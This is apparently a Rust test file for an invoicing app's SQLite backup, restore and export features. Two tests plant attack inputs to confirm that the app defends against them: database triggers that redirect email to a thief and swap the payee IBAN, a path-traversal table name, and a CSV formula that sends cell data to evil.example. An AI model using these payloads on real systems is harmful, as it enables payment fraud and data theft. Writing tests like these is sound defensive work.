//! Backups, restore, export and first-run preferences on real SQLite files, checked through the
//! API and, independently, by opening the files with rusqlite.

use std::path::{Path, PathBuf};

use chrono::{DateTime, Utc};
use duly_api::*;
use rusqlite::Connection;

struct Fixture {
    dir: tempfile::TempDir,
    path: PathBuf,
    duly: Duly,
}

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("data/duly.sqlite3");
    let duly = Duly::open(&path).unwrap().with_today("2026-11-23".parse().unwrap());
    Fixture { dir, path, duly }
}

fn at(s: &str) -> DateTime<Utc> {
    s.parse().unwrap()
}

fn add_client(duly: &mut Duly, name: &str) -> i64 {
    duly.client_save(ClientInput {
        id: None,
        name: name.to_owned(),
        address: String::new(),
        tax_id: String::new(),
        language: Language::Ro,
        currency: "RON".to_owned(),
        notes: "line one, \"quoted\"\nline two".to_owned(),
        country: String::new(),
        timezone: String::new(),
        contacts: Vec::new(),
    })
    .unwrap()
    .id
}

fn add_invoice(duly: &mut Duly, client_id: i64, number: &str) {
    duly.invoice_save(InvoiceInput {
        id: None,
        client_id,
        number: Some(number.to_owned()),
        issue_date: "2026-10-01".to_owned(),
        due_date: Some("2026-10-31".to_owned()),
        currency: None,
        tax_rate: "19".to_owned(),
        notes: String::new(),
        lines: vec![LineInput {
            description: "Design".to_owned(),
            quantity: "10".to_owned(),
            unit_price: "150.00".to_owned(),
        }],
        send: true,
    })
    .unwrap();
}

fn client_names(db: &Path) -> Vec<String> {
    let conn = Connection::open(db).unwrap();
    let mut stmt = conn.prepare("SELECT name FROM clients ORDER BY id").unwrap();
    stmt.query_map([], |r| r.get(0)).unwrap().collect::<Result<_, _>>().unwrap()
}

fn files_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .map(|e| e.map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect())
        .unwrap_or_default();
    names.sort();
    names
}

#[test]
fn a_backup_restores_the_old_data_and_keeps_a_safety_copy_of_the_new() {
    let mut f = fixture();
    let acme = add_client(&mut f.duly, "Acme SRL");
    add_invoice(&mut f.duly, acme, "RO-001");
    let backup = f.duly.backup_now(BackupNowInput::default()).unwrap();
    assert_eq!(backup.kind, BackupKind::Manual);
    assert!(backup.file_name.starts_with("manual-") && backup.file_name.ends_with(".sqlite3"), "{}", backup.file_name);
    assert!(Path::new(&backup.path).starts_with(f.path.parent().unwrap().join("backups")));

    // The backup is a standalone file: no -wal beside it, and it reads without Duly.
    assert!(!Path::new(&format!("{}-wal", backup.path)).exists());
    assert_eq!(client_names(Path::new(&backup.path)), ["Acme SRL"]);

    // Change the data after the backup.
    add_client(&mut f.duly, "Later Ltd");
    f.duly
        .payment_add(PaymentInput {
            invoice_number: "RO-001".to_owned(),
            amount: "100.00".to_owned(),
            date: Some("2026-11-01".to_owned()),
            method: String::new(),
            note: String::new(),
        })
        .unwrap();
    assert_eq!(client_names(&f.path), ["Acme SRL", "Later Ltd"]);

    let report = f.duly.backup_restore(BackupRestoreInput { path: backup.path.clone() }).unwrap();
    assert_eq!(report.schema_version, report.backup_schema_version);
    assert_eq!(report.safety_backup.kind, BackupKind::BeforeRestore);

    // Through the same open handle and through the file: the old data, without the payment.
    assert_eq!(f.duly.client_list(ClientQuery::default()).unwrap().len(), 1);
    assert_eq!(f.duly.invoice_get("RO-001").unwrap().payments.len(), 0);
    assert_eq!(client_names(&f.path), ["Acme SRL"]);
    let paid: i64 =
        Connection::open(&f.path).unwrap().query_row("SELECT paid_minor FROM invoices", [], |r| r.get(0)).unwrap();
    assert_eq!(paid, 0);
    // The live database is still in WAL mode and writable after the restore.
    let mode: String =
        Connection::open(&f.path).unwrap().pragma_query_value(None, "journal_mode", |r| r.get(0)).unwrap();
    assert_eq!(mode, "wal");
    add_client(&mut f.duly, "After Restore");
    assert_eq!(client_names(&f.path), ["Acme SRL", "After Restore"]);

    // The safety copy holds what the restore replaced.
    assert_eq!(client_names(Path::new(&report.safety_backup.path)), ["Acme SRL", "Later Ltd"]);
    let list = f.duly.backup_list().unwrap();
    assert_eq!(list.backups.len(), 2);
    assert_eq!(list.data_folder, f.path.parent().unwrap().display().to_string());
}

#[test]
fn a_backup_to_a_chosen_file_refuses_to_overwrite() {
    let mut f = fixture();
    add_client(&mut f.duly, "Acme SRL");
    let target = f.dir.path().join("elsewhere/copy.sqlite3");
    let made = f.duly.backup_now(BackupNowInput { to: Some(target.display().to_string()) }).unwrap();
    assert_eq!(made.path, target.display().to_string());
    assert_eq!(client_names(&target), ["Acme SRL"]);
    let before = std::fs::read(&target).unwrap();
    let err = f.duly.backup_now(BackupNowInput { to: Some(target.display().to_string()) }).unwrap_err();
    assert!(err.message.contains("already exists"), "{}", err.message);
    assert_eq!(std::fs::read(&target).unwrap(), before);
}

/// Restoring `bad` fails with invalid_input naming the file and leaves the database and the
/// backups folder exactly as they were.
fn refused(f: &mut Fixture, bad: &Path, expect: &str) {
    let backups = f.path.parent().unwrap().join("backups");
    let folder_before = files_in(&backups);
    let names_before = client_names(&f.path);
    let err = f.duly.backup_restore(BackupRestoreInput { path: bad.display().to_string() }).unwrap_err();
    assert_eq!(err.code, ErrorCode::InvalidInput, "{}", err.message);
    assert!(err.message.contains(&bad.display().to_string()), "names the file: {}", err.message);
    assert!(err.message.contains(expect), "expected \"{expect}\" in: {}", err.message);
    assert_eq!(files_in(&backups), folder_before, "no safety backup for a refused file");
    assert_eq!(client_names(&f.path), names_before);
    assert_eq!(f.duly.client_list(ClientQuery::default()).unwrap().len(), names_before.len());
}

#[test]
fn files_that_are_not_duly_backups_are_refused_and_change_nothing() {
    let mut f = fixture();
    add_client(&mut f.duly, "Acme SRL");
    f.duly.backup_now(BackupNowInput::default()).unwrap();

    let text = f.dir.path().join("invoices.csv");
    std::fs::write(&text, "number,amount\nRO-1,100\n").unwrap();
    refused(&mut f, &text, "not a SQLite database");

    let empty = f.dir.path().join("empty.sqlite3");
    std::fs::write(&empty, b"").unwrap();
    refused(&mut f, &empty, "not a SQLite database");

    let missing = f.dir.path().join("nowhere.sqlite3");
    refused(&mut f, &missing, "cannot be read");

    let foreign = f.dir.path().join("firefox-places.sqlite");
    let conn = Connection::open(&foreign).unwrap();
    conn.execute_batch("CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT); INSERT INTO moz_places (url) VALUES ('https://example.org');").unwrap();
    drop(conn);
    refused(&mut f, &foreign, "not Duly's");

    // A real Duly backup whose schema version says a newer Duly wrote it.
    let future = f.dir.path().join("from-the-future.sqlite3");
    f.duly.backup_now(BackupNowInput { to: Some(future.display().to_string()) }).unwrap();
    let conn = Connection::open(&future).unwrap();
    conn.pragma_update(None, "user_version", 999).unwrap();
    drop(conn);
    refused(&mut f, &future, "newer Duly");

    // Its own live file.
    let live = f.path.clone();
    refused(&mut f, &live, "the database Duly is using");
}

#[test]
fn a_backup_from_an_older_duly_is_upgraded_after_restore() {
    let mut f = fixture();
    add_client(&mut f.duly, "Current Client");
    // A schema-version-1 database, as the first Duly release wrote it.
    let old = f.dir.path().join("duly-v1.sqlite3");
    let conn = Connection::open(&old).unwrap();
    conn.execute_batch(include_str!("../../../duly-store/migrations/0001_initial.sql")).unwrap();
    conn.execute(
        "INSERT INTO clients (name, currency, created_at) VALUES ('Old Client', 'EUR', '2025-01-01T00:00:00Z')",
        [],
    )
    .unwrap();
    conn.pragma_update(None, "user_version", 1).unwrap();
    drop(conn);

    let report = f.duly.backup_restore(BackupRestoreInput { path: old.display().to_string() }).unwrap();
    assert_eq!(report.backup_schema_version, 1);
    assert_eq!(report.schema_version, f.duly.app_info().unwrap().schema_version);
    assert!(report.schema_version > 1);
    assert_eq!(client_names(&f.path), ["Old Client"]);
    let version: i64 =
        Connection::open(&f.path).unwrap().pragma_query_value(None, "user_version", |r| r.get(0)).unwrap();
    assert_eq!(version, report.schema_version);
    // Tables added by later migrations exist and work.
    f.duly
        .preferences_save(PreferencesInput {
            ui_language: Some(Language::Id),
            onboarding: None,
            ..PreferencesInput::default()
        })
        .unwrap();
    // The file restored from is untouched.
    let v: i64 = Connection::open(&old).unwrap().pragma_query_value(None, "user_version", |r| r.get(0)).unwrap();
    assert_eq!(v, 1);
}

#[test]
fn daily_backups_once_a_day_and_only_the_newest_n_kept() {
    let mut f = fixture();
    add_client(&mut f.duly, "Acme SRL");
    f.duly.backup_keep_set(3).unwrap();
    let manual = f.duly.backup_now(BackupNowInput::default()).unwrap();

    let first = f.duly.backup_auto(at("2026-11-01T08:00:00Z")).unwrap().expect("the first start of a day backs up");
    assert_eq!(first.file_name, "auto-20261101T080000Z.sqlite3");
    assert_eq!(f.duly.backup_auto(at("2026-11-01T23:00:00Z")).unwrap(), None, "once a day");
    for day in 2..=6 {
        let made = f.duly.backup_auto(at(&format!("2026-11-{day:02}T09:30:00Z"))).unwrap();
        assert!(made.is_some(), "day {day}");
    }
    let list = f.duly.backup_list().unwrap();
    assert_eq!(list.keep, 3);
    let autos: Vec<&str> =
        list.backups.iter().filter(|b| b.kind == BackupKind::Auto).map(|b| b.file_name.as_str()).collect();
    assert_eq!(
        autos,
        ["auto-20261106T093000Z.sqlite3", "auto-20261105T093000Z.sqlite3", "auto-20261104T093000Z.sqlite3"]
    );
    let on_disk = files_in(Path::new(&list.backups_folder));
    assert_eq!(on_disk.len(), 4, "3 automatic + the manual one: {on_disk:?}");
    assert!(on_disk.contains(&manual.file_name), "manual backups are never pruned");
    for name in &on_disk {
        assert_eq!(client_names(&Path::new(&list.backups_folder).join(name)), ["Acme SRL"]);
    }

    assert_eq!(f.duly.backup_keep_set(0).unwrap_err().code, ErrorCode::InvalidInput);
    f.duly.backup_keep_set(1).unwrap();
    assert_eq!(f.duly.backup_list().unwrap().backups.iter().filter(|b| b.kind == BackupKind::Auto).count(), 1);
}

#[test]
fn export_writes_every_table_as_csv_and_json() {
    let mut f = fixture();
    let acme = add_client(&mut f.duly, "Acme, \"the\" SRL");
    add_invoice(&mut f.duly, acme, "RO-001");
    add_invoice(&mut f.duly, acme, "RO-002");

    let out = f.dir.path().join("export-csv");
    let report =
        f.duly.export_data(ExportInput { to: Some(out.display().to_string()), format: ExportFormat::Csv }).unwrap();
    let names = files_in(&out);
    for table in ["business.csv", "clients.csv", "invoices.csv", "invoice_lines.csv", "payments.csv", "settings.csv"] {
        assert!(names.contains(&table.to_owned()), "{table} in {names:?}");
    }
    assert_eq!(report.files.len(), names.len());
    assert_eq!(i64::try_from(names.len()).unwrap(), report.tables);
    let invoices = std::fs::read_to_string(out.join("invoices.csv")).unwrap();
    let mut lines = invoices.lines();
    assert!(lines.next().unwrap().starts_with("id,business_id,number,client_id,issue_date,due_date,currency"));
    assert_eq!(lines.count(), 2);
    let clients = std::fs::read_to_string(out.join("clients.csv")).unwrap();
    assert!(clients.contains("\"Acme, \"\"the\"\" SRL\""), "{clients}");
    assert!(clients.contains("\"line one, \"\"quoted\"\"\nline two\""), "{clients}");
    // An empty table still gets its header.
    assert!(std::fs::read_to_string(out.join("payments.csv")).unwrap().starts_with("id,invoice_id,"));

    let report = f.duly.export_data(ExportInput { to: None, format: ExportFormat::Json }).unwrap();
    assert!(Path::new(&report.folder).starts_with(f.path.parent().unwrap().join("exports")));
    let json: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&report.files[0]).unwrap()).unwrap();
    assert_eq!(json["format"], "duly-export");
    assert_eq!(json["tables"]["invoices"].as_array().unwrap().len(), 2);
    assert_eq!(json["tables"]["clients"][0]["name"], "Acme, \"the\" SRL");
    assert_eq!(json["tables"]["invoices"][0]["total_minor"], 178_500);
    let rows: i64 = ["business", "clients", "contacts", "invoices", "invoice_lines", "payments", "events"]
        .iter()
        .map(|t| {
            Connection::open(&f.path)
                .unwrap()
                .query_row(&format!("SELECT count(*) FROM {t}"), [], |r| r.get::<_, i64>(0))
                .unwrap()
        })
        .sum();
    assert!(report.rows >= rows, "{} rows exported, {rows} in the core tables", report.rows);

    let file = f.dir.path().join("a-file");
    std::fs::write(&file, "x").unwrap();
    let err = f
        .duly
        .export_data(ExportInput { to: Some(file.display().to_string()), format: ExportFormat::Csv })
        .unwrap_err();
    assert_eq!(err.code, ErrorCode::InvalidInput);
}

#[test]
fn first_run_is_pending_only_for_an_empty_database_and_remembers_the_choice() {
    let mut f = fixture();
    let p = f.duly.preferences_get().unwrap();
    assert_eq!(
        p,
        Preferences {
            ui_language: None,
            onboarding: OnboardingState::Pending,
            keep_sending_in_background: true,
            start_at_login: false,
            thank_for_payments: false,
            theme: Theme::System,
        }
    );

    let p = f
        .duly
        .preferences_save(PreferencesInput {
            ui_language: Some(Language::Ro),
            onboarding: Some(OnboardingState::Skipped),
            ..PreferencesInput::default()
        })
        .unwrap();
    assert_eq!(
        p,
        Preferences {
            ui_language: Some(Language::Ro),
            onboarding: OnboardingState::Skipped,
            keep_sending_in_background: true,
            start_at_login: false,
            thank_for_payments: false,
            theme: Theme::System,
        }
    );
    // Saving one field leaves the other.
    let p = f
        .duly
        .preferences_save(PreferencesInput {
            ui_language: None,
            onboarding: Some(OnboardingState::Done),
            ..PreferencesInput::default()
        })
        .unwrap();
    assert_eq!(p.ui_language, Some(Language::Ro));
    let value: String = Connection::open(&f.path)
        .unwrap()
        .query_row("SELECT value FROM settings WHERE key = 'ui_language'", [], |r| r.get(0))
        .unwrap();
    assert_eq!(value, "ro");

    // A database that already has data (demo, CLI, an older Duly) needs no first-run setup.
    let mut g = fixture();
    add_client(&mut g.duly, "Acme SRL");
    assert_eq!(g.duly.preferences_get().unwrap().onboarding, OnboardingState::Done);
}

/// Every schema object of the database at `db` as (type, name, sql), for comparing schemas.
fn schema(db: &Path) -> Vec<(String, String, Option<String>)> {
    let conn = Connection::open(db).unwrap();
    let mut stmt = conn.prepare("SELECT type, name, sql FROM sqlite_schema ORDER BY type, name").unwrap();
    stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?))).unwrap().collect::<Result<_, _>>().unwrap()
}

fn business(iban: &str) -> Business {
    Business {
        name: "Ana Freelance".to_owned(),
        address: String::new(),
        tax_id: String::new(),
        email: "ana@example.org".to_owned(),
        phone: String::new(),
        bank_name: String::new(),
        iban: iban.to_owned(),
        bic: String::new(),
        default_currency: "RON".to_owned(),
        language: Language::Ro,
        payment_terms_days: 30,
    }
}

#[test]
fn a_restore_brings_rows_only_and_no_trigger_view_index_or_table_it_did_not_make() {
    let mut f = fixture();
    f.duly.business_save(business("RO49AAAA1B31007593840000")).unwrap();
    let acme = add_client(&mut f.duly, "Acme SRL");
    add_invoice(&mut f.duly, acme, "RO-001");
    let clean_schema = schema(&f.path);

    // A Duly backup that someone has added code and tables to.
    let hostile = f.dir.path().join("hostile.sqlite3");
    f.duly.backup_now(BackupNowInput { to: Some(hostile.display().to_string()) }).unwrap();
    let conn = Connection::open(&hostile).unwrap();
    conn.execute_batch(
        r#"
        CREATE TRIGGER outbox_cc AFTER INSERT ON outbox BEGIN
            UPDATE outbox SET message_json = json_set(message_json, '$.cc', json('["thief@example.net"]'))
            WHERE id = new.id;
        END;
        CREATE TRIGGER business_iban AFTER UPDATE ON business BEGIN
            UPDATE business SET iban = 'XX00THIEF' WHERE id = 1;
        END;
        CREATE VIEW client_emails AS SELECT name FROM clients;
        CREATE INDEX clients_by_notes ON clients (notes);
        CREATE TABLE exfil (x TEXT);
        INSERT INTO exfil VALUES ('planted');
        CREATE TABLE "../../../x" (x TEXT);
        INSERT INTO "../../../x" VALUES ('=1+1');
        "#,
    )
    .unwrap();
    drop(conn);

    add_client(&mut f.duly, "Later Ltd");
    f.duly.backup_restore(BackupRestoreInput { path: hostile.display().to_string() }).unwrap();

    // Exactly Duly's own schema, nothing of what was added.
    assert_eq!(schema(&f.path), clean_schema);
    let live = Connection::open(&f.path).unwrap();
    for (kind, name) in [
        ("trigger", "outbox_cc"),
        ("trigger", "business_iban"),
        ("view", "client_emails"),
        ("index", "clients_by_notes"),
        ("table", "exfil"),
        ("table", "../../../x"),
    ] {
        let found: bool = live
            .query_row("SELECT EXISTS (SELECT 1 FROM sqlite_schema WHERE name = ?1)", [name], |r| r.get(0))
            .unwrap();
        assert!(!found, "the {kind} {name} came along with the restore");
    }
    // The rows did.
    assert_eq!(client_names(&f.path), ["Acme SRL"]);
    assert_eq!(f.duly.invoice_get("RO-001").unwrap().lines.len(), 1);
    assert_eq!(f.duly.business_get().unwrap().iban, "RO49AAAA1B31007593840000");

    // And nothing runs behind the user's back: removing the IBAN keeps it removed.
    f.duly.business_save(business("")).unwrap();
    assert_eq!(f.duly.business_get().unwrap().iban, "");
    let iban: Option<String> = live.query_row("SELECT iban FROM business", [], |r| r.get(0)).unwrap();
    assert_eq!(iban.as_deref().unwrap_or(""), "");
}

#[test]
fn a_backup_whose_duly_table_lacks_a_column_is_refused() {
    let mut f = fixture();
    add_client(&mut f.duly, "Acme SRL");
    let cut = f.dir.path().join("cut.sqlite3");
    f.duly.backup_now(BackupNowInput { to: Some(cut.display().to_string()) }).unwrap();
    Connection::open(&cut).unwrap().execute_batch("ALTER TABLE clients DROP COLUMN notes;").unwrap();
    add_client(&mut f.duly, "Later Ltd");
    refused(&mut f, &cut, "no column notes");
}

#[test]
fn export_writes_duly_tables_only_inside_its_folder() {
    let mut f = fixture();
    add_client(&mut f.duly, "Acme SRL");
    // Tables Duly did not make, however they got into the file.
    Connection::open(&f.path)
        .unwrap()
        .execute_batch(r#"CREATE TABLE "../../../x" (x TEXT); INSERT INTO "../../../x" VALUES ('y'); CREATE TABLE extra (x TEXT);"#)
        .unwrap();
    let root = f.dir.path().join("out");
    let folder = root.join("a/b/c");
    let report =
        f.duly.export_data(ExportInput { to: Some(folder.display().to_string()), format: ExportFormat::Csv }).unwrap();
    let written = files_in(&folder);
    for table in ["business.csv", "clients.csv", "invoices.csv", "outbox.csv", "settings.csv"] {
        assert!(written.contains(&table.to_owned()), "{table} in {written:?}");
    }
    assert!(!written.contains(&"extra.csv".to_owned()), "only Duly's tables: {written:?}");
    assert_eq!(report.files.len(), written.len());
    assert!(report.files.iter().all(|p| Path::new(p).parent() == Some(folder.as_path())), "{:?}", report.files);
    assert_eq!(files_in(&root), ["a"], "nothing written beside the export folder");
    assert_eq!(files_in(&root.join("a")), ["b"]);
    assert_eq!(files_in(&root.join("a/b")), ["c"]);

    let json = f.dir.path().join("json/a/b/c");
    f.duly.export_data(ExportInput { to: Some(json.display().to_string()), format: ExportFormat::Json }).unwrap();
    assert_eq!(files_in(&json), ["duly-export.json"]);
    let doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(json.join("duly-export.json")).unwrap()).unwrap();
    let tables: Vec<&String> = doc["tables"].as_object().unwrap().keys().collect();
    assert!(!tables.iter().any(|t| t.as_str() == "../../../x" || t.as_str() == "extra"), "{tables:?}");
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_written_inert() {
    let mut f = fixture();
    let id = f
        .duly
        .client_save(ClientInput {
            id: None,
            name: "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")".to_owned(),
            address: "+1 Main St".to_owned(),
            tax_id: "-2".to_owned(),
            language: Language::Ro,
            currency: "RON".to_owned(),
            notes: "@SUM(1+1)".to_owned(),
            country: String::new(),
            timezone: String::new(),
            contacts: Vec::new(),
        })
        .unwrap()
        .id;
    add_invoice(&mut f.duly, id, "RO-001");
    Connection::open(&f.path).unwrap().execute("UPDATE invoices SET notes = '\t=1+1'", []).unwrap();
    let out = f.dir.path().join("csv");
    f.duly.export_data(ExportInput { to: Some(out.display().to_string()), format: ExportFormat::Csv }).unwrap();

    let clients = std::fs::read_to_string(out.join("clients.csv")).unwrap();
    let row = clients.lines().nth(1).unwrap();
    assert!(row.contains(r#""'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")""#), "{row}");
    assert!(row.contains(",'+1 Main St,'-2,"), "{row}");
    assert!(row.contains(",'@SUM(1+1),"), "{row}");
    let invoices = std::fs::read_to_string(out.join("invoices.csv")).unwrap();
    assert!(invoices.contains("'\t=1+1"), "{invoices}");
    // Numbers Duly stores as numbers stay numbers (amounts in minor units, ids).
    let header: Vec<&str> = invoices.lines().next().unwrap().split(',').collect();
    let total = header.iter().position(|c| *c == "total_minor").unwrap();
    assert_eq!(invoices.lines().nth(1).unwrap().split(',').nth(total), Some("178500"));
    // JSON is data, not a spreadsheet: written as stored.
    let json = f.dir.path().join("json");
    f.duly.export_data(ExportInput { to: Some(json.display().to_string()), format: ExportFormat::Json }).unwrap();
    let doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(json.join("duly-export.json")).unwrap()).unwrap();
    assert_eq!(doc["tables"]["clients"][0]["tax_id"], "-2");
}

#[cfg(unix)]
#[test]
fn the_database_backups_and_exports_are_readable_by_the_user_only() {
    use std::os::unix::fs::PermissionsExt as _;
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;

    let mut f = fixture();
    add_client(&mut f.duly, "Acme SRL");
    assert_eq!(mode(&f.path), 0o600, "the database");
    assert_eq!(mode(Path::new(&format!("{}-wal", f.path.display()))), 0o600, "its WAL");
    assert_eq!(mode(f.path.parent().unwrap()), 0o700, "the data folder Duly created");

    let made = f.duly.backup_now(BackupNowInput::default()).unwrap();
    assert_eq!(mode(Path::new(&made.path)), 0o600, "a backup");
    assert_eq!(mode(&f.path.parent().unwrap().join("backups")), 0o700, "the backups folder");
    let chosen = f.dir.path().join("copy.sqlite3");
    f.duly.backup_now(BackupNowInput { to: Some(chosen.display().to_string()) }).unwrap();
    assert_eq!(mode(&chosen), 0o600, "a backup to a chosen file");
    let report = f.duly.backup_restore(BackupRestoreInput { path: made.path.clone() }).unwrap();
    assert_eq!(mode(Path::new(&report.safety_backup.path)), 0o600, "the safety copy before a restore");
    assert_eq!(files_in(&f.path.parent().unwrap().join("backups")).len(), 2, "no temporary file left");

    for format in [ExportFormat::Csv, ExportFormat::Json] {
        let report = f.duly.export_data(ExportInput { to: None, format }).unwrap();
        assert_eq!(mode(Path::new(&report.folder)), 0o700, "the export folder");
        assert_eq!(mode(&f.path.parent().unwrap().join("exports")), 0o700, "the exports folder");
        for file in &report.files {
            assert_eq!(mode(Path::new(file)), 0o600, "{file}");
        }
        std::fs::remove_dir_all(&report.folder).unwrap();
    }
}
